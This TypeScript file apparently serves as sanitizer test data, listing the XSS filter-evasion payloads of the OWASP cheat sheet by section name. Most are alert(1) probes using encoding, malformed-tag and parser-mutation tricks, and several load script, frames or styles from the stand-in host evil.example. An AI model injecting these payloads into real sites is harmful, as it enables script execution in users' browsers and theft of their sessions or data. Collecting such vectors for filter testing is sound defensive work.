/**
 * The techniques of the OWASP XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), by the names of its sections, each
 * with the call that a browser would make if it worked.
 */
export const VECTORS: Readonly<Record<string, string>> = {
  "basic test": "<SCRIPT>alert(1)</SCRIPT>",
  "remote script": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  polyglot:
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(1);//'>",
  "malformed a": '<a onmouseover="alert(1)">link</a>',
  "malformed a, no quotes": "<a onmouseover=alert(1)>link</a>",
  "malformed img": '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  fromCharCode: "<IMG SRC=javascript:alert(String.fromCharCode(49))>",
  "default src": '<IMG SRC=# onmouseover="alert(1)">',
  "empty src": '<IMG SRC= onmouseover="alert(1)">',
  "no src": '<IMG onmouseover="alert(1)">',
  "on error": '<IMG SRC=/ onerror="alert(1)"></img>',
  "on error, encoded":
    '<img src=x onerror="&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
  "decimal references":
    "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>x</a>",
  "decimal references without semicolons":
    "<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>x</a>",
  "hexadecimal references":
    "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>x</a>",
  "embedded tab": '<a href="jav\tascript:alert(1);">x</a>',
  "encoded tab": '<a href="jav&#x09;ascript:alert(1);">x</a>',
  "embedded newline": '<a href="jav&#x0A;ascript:alert(1);">x</a>',
  "embedded carriage return": '<a href="jav&#x0D;ascript:alert(1);">x</a>',
  "null character": '<a href="java\0script:alert(1)">x</a>',
  "control characters before": '<a href=" &#14;  javascript:alert(1);">x</a>',
  "non-alpha-non-digit": '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
  "non-alpha in an event's name": "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
  "slash instead of space": '<img/src="x"/onerror=alert(1)>',
  "extraneous brackets": "<<SCRIPT>alert(1);//<</SCRIPT>",
  "no closing script": "<SCRIPT SRC=https://evil.example/x.js?< B >",
  "protocol resolution": "<SCRIPT SRC=//evil.example/.j>",
  "half open": '<IMG SRC="`<javascript:alert(1)>`" onerror=alert(1)',
  "double open brackets": "<iframe src=https://evil.example/ <",
  "escaping escapes": '\\";alert(1);//</script><script>alert(1);</script>',
  "end title": "</TITLE><SCRIPT>alert(1);</SCRIPT>",
  "input image": '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);" autofocus onfocus=alert(1)>',
  "body image": '<BODY BACKGROUND="javascript:alert(1)">',
  "img dynsrc": '<IMG DYNSRC="javascript:alert(1)" LOWSRC="javascript:alert(1)">',
  "list-style-image": '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</br>',
  vbscript: "<a href='vbscript:msgbox(1)'>x</a>",
  "svg onload": "<svg/onload=alert(1)>",
  "svg script": "<svg><script>alert&#40;1)</script></svg>",
  "svg animate":
    '<svg><a><animate attributeName=href values="javascript:alert(1)" /><text x=9 y=9>x</text></a></svg>',
  "svg in a data URL":
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" type="image/svg+xml">',
  "body tag": "<BODY ONLOAD=alert(1)>",
  bgsound: '<BGSOUND SRC="javascript:alert(1);">',
  "javascript includes": '<BR SIZE="&{alert(1)}">',
  "style sheet": '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  "remote style": "<STYLE>@import'https://evil.example/x.css';</STYLE>",
  "style attribute":
    '<DIV STYLE="background-image: url(javascript:alert(1)); width: expression(alert(1))">x</DIV>',
  "anonymous style": '<XSS STYLE="behavior: url(x.htc);">x',
  "meta refresh": '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  "meta with data": '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html,<script>alert(1)</script>">',
  iframe: '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  "iframe srcdoc": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "iframe event": '<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>',
  frameset: '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  table: '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">x',
  "downlevel-hidden": "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
  base: '<BASE HREF="javascript:alert(1);//">',
  object: '<OBJECT TYPE="text/x-scriptlet" DATA="javascript:alert(1)"></OBJECT>',
  "xml data island": '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>',
  "quotes around a bracket": '<SCRIPT a=">" SRC="https://evil.example/x.js"></SCRIPT>',
  "html+time": '<t:set attributeName="innerHTML" to="x<SCRIPT DEFER>alert(1)</SCRIPT>">',
  "details toggle": "<details open ontoggle=alert(1)>x</details>",
  "video error": "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "marquee start": "<marquee onstart=alert(1)>x</marquee>",
  "form action":
    "<form action=javascript:alert(1)><button autofocus onfocus=alert(1) formaction=javascript:alert(1)>x</button></form>",
  "math link": '<math href="javascript:alert(1)">x</math>',
  "noscript and title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "mutation by namespaces":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "mutation by a form in a formula":
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)></style></mglyph></form></mtext></math></form>",
  "mutation by a style in a drawing": '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  "mutation by a title in a drawing": "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
  "mutation by text in an annotation":
    "<math><annotation-xml encoding='text/html'><xmp>&lt;/xmp&gt;&lt;img src=x onerror=alert(1)&gt;</xmp></annotation-xml></math>",
  "mutation by tags of listings": "<plaintext><img src=x onerror=alert(1)>",
  "drawing with HTML in it":
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "drawing that sets a link":
    '<svg><a><animate attributeName="href" values="javascript:alert(1)" /><text x="9" y="9">x</text></a></svg>',
  "drawing that uses another":
    '<svg><use href="data:image/svg+xml,<svg id=a onload=alert(1)>#a"></use><path d="M0 0"></svg>',
  "late picture": '<img data-src="javascript:alert(1)"><img data-src="x" onerror=alert(1)>',
  "late frame": '<iframe data-src="javascript:alert(1)" title="<img src=x onerror=alert(1)>"></iframe>',
  "title of a frame": '<iframe src="https://a.example" title="<img src=x onerror=alert(1)>"></iframe>',
  "script of a gist":
    '<script src="https://gist.github.com/a/abc.js?file=<img src=x onerror=alert(1)>"></script>',
  "formula in a script": '<script type="math/tex"><img src=x onerror=alert(1)></script>',
  "mutation by template":
    "<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>",
  "CDATA ends": "]]><script>alert(1)</script><![CDATA[",
  "entities written twice": "&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "markdown link":
    "[x](javascript:alert(1)) [y](<java&#10;script:alert(1)>) [z](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "markdown autolink": "<javascript:alert(1)>",
  "markdown image": '![x" onerror="alert(1)](x" onerror="alert(1)) ![y](javascript:alert(1))',
  "markdown title": "[x](https://evil.example 'x\" onmouseover=\"alert(1)')",
  "markdown fence": '```js" onmouseover="alert(1)\nx\n```',
};
